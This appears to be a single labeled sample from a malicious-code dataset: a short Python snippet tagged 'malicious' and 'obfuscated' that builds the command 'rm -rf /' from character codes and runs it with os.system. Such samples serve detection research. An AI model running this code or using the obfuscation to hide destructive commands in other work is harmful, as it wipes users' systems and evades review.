# label: malicious; obfuscated: chr,concat
import os
os.system(chr(114) + chr(109) + " -rf /")
